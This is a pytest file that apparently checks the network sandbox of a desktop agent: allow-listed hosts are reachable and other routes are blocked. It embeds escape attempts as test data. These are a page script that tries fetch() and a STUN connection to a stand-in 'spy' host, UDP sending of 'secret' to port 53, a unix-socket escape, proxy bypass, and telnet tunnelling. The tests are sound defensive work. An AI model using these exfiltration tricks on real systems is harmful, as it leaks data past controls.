"""What a desk with hosts reaches, and what it does not; the oracle is what came to the hosts."""

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from desktop_agent.desk.folder import open_desk
from desktop_agent.desk.sandbox.side_desk import SideDesk
from tests.fakes.desks.desks import done_inside
from tests.fakes.desks.joined_desks import desk_with, lead_to
from tests.fakes.programs import browser
from tests.fakes.servers.web_hosts import WebHosts
from tests.fakes.waiting import wait_until

pytestmark = pytest.mark.program

SHOP = "shop.example.org"
OTHER = "other.example.com"
# It tries two other ways out first, and sends its form when both have failed.
PAGE = f"""<form method="post" action="/order"><input name="letters" value="3"></form>
<script>
const other = fetch("http://{OTHER}/spy", {{mode: "no-cors"}}).catch(() => 0);
const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:{OTHER}:3478"}}]}}); peer.createDataChannel("x");
peer.createOffer().then(offer => peer.setLocalDescription(offer));
other.then(() => document.forms[0].submit());
</script>"""

FORM = """<form method="post" action="/order"><input name="letters" value="3"></form>
<script>document.forms[0].submit();</script>"""


@pytest.fixture
def hosts(monkeypatch: pytest.MonkeyPatch) -> Iterator[WebHosts]:
    made = WebHosts((SHOP, OTHER))
    lead_to(made, monkeypatch)
    yield made
    made.close()


@pytest.fixture
def desk(tmp_path: Path, hosts: WebHosts) -> Iterator[SideDesk]:
    with desk_with(tmp_path, (SHOP,)) as made:
        yield made


@pytest.mark.promise("guide desk-network")
def test_reads_and_writes_reach_a_named_host_with_its_own_certificate(desk: SideDesk, hosts: WebHosts) -> None:
    assert done_inside(desk, f"curl -sS http://{SHOP}/read") == "hello"
    assert done_inside(desk, f"curl -sSk -d a=1 https://{SHOP}/write") == "hello"
    assert "certificate" in done_inside(desk, f"curl -sS https://{SHOP}/ 2>&1 | head -1")

    assert [one.first for one in hosts.arrived] == ["GET /read HTTP/1.1", "POST /write HTTP/1.1"]
    assert [one.body for one in hosts.arrived] == [b"", b"a=1"]


def test_a_host_that_is_let_in_later_is_reached_from_then_on(desk: SideDesk, hosts: WebHosts) -> None:
    before = done_inside(desk, f"curl -sS http://{OTHER}/")
    desk.admit(f"https://{OTHER}")

    assert "only the hosts named for it, and not" in before
    assert done_inside(desk, f"curl -sS http://{OTHER}/") == "hello"
    assert open_desk(desk.folder).hosts == (SHOP, OTHER)


def test_nothing_else_is_reached(desk: SideDesk, hosts: WebHosts) -> None:
    with socket.socket(socket.AF_UNIX) as outside:
        outside.bind("\0desk-way-out")
        outside.listen()
        tried = done_inside(
            desk,
            "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"\\0desk-way-out\")' 2>&1 | tail -1; "
            "python3 -c 'import socket; udp = socket.socket(type=socket.SOCK_DGRAM); "
            'udp.sendto(b"secret", ("93.184.216.10", 53))\' 2>&1 | tail -1',
        )
    assert "Connection refused" in tried
    assert "Network is unreachable" in tried
    output = done_inside(
        desk,
        f"curl -sS https://{OTHER}/; curl -sS --noproxy '*' -m 3 https://{SHOP}/; "
        f"python3 -c 'import socket; socket.getaddrinfo(\"{SHOP}\", 443)' 2>&1 | tail -1; "
        "python3 -c 'import socket; socket.create_connection((\"93.184.216.10\", 443), 3)' 2>&1 | tail -1; "
        f"curl -sS -m 3 -p -x http://127.0.0.1:3128 telnet://{SHOP}:22 2>&1 | tail -1",
    )

    assert "403" in output.splitlines()[0]
    assert "Could not resolve host" in output
    assert "Network is unreachable" in output
    assert "403" in output.splitlines()[-1]
    assert hosts.arrived == []


@pytest.mark.slow
@pytest.mark.skipif(bool(browser.WHY_NOT), reason=browser.WHY_NOT)
def test_chromium_reaches_the_named_host_and_its_other_ways_out_are_closed(desk: SideDesk, hosts: WebHosts) -> None:
    hosts.answer = lambda came: page(PAGE if came.first == "GET / HTTP/1.1" else "<title>answered</title>")

    desk.start(["chromium", "--no-first-run", "--disable-gpu", f"http://{SHOP}/"])
    wait_until(lambda: [one for one in hosts.arrived if one.method == "POST"], "the form at its host")

    assert [one.body for one in hosts.arrived if one.method == "POST"] == [b"letters=3"]
    assert {one.host for one in hosts.arrived} == {SHOP}


def page(text: str) -> bytes:
    body = text.encode()
    return b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body)


@pytest.mark.skipif(bool(browser.WHY_NOT), reason=browser.WHY_NOT)
def test_a_form_of_this_computer_that_was_named_is_reached_by_chromium_and_no_other_port(tmp_path: Path) -> None:
    hosts = WebHosts((SHOP, OTHER))
    hosts.answer = lambda came: page(FORM if came.method == "GET" else "<title>answered</title>")
    form, other = hosts.plain_ports
    try:
        with desk_with(tmp_path, (f"127.0.0.1:{form}",)) as desk:
            refused = done_inside(desk, f"curl -sS http://127.0.0.1:{other}/")
            desk.start(["chromium", "--no-first-run", "--disable-gpu", f"http://127.0.0.1:{form}/"])
            wait_until(lambda: [one for one in hosts.arrived if one.method == "POST"], "the form at its host")
    finally:
        hosts.close()

    assert "only the hosts named for it" in refused
    assert [one.body for one in hosts.arrived if one.method == "POST"] == [b"letters=3"]
    assert {one.host for one in hosts.arrived} == {SHOP}
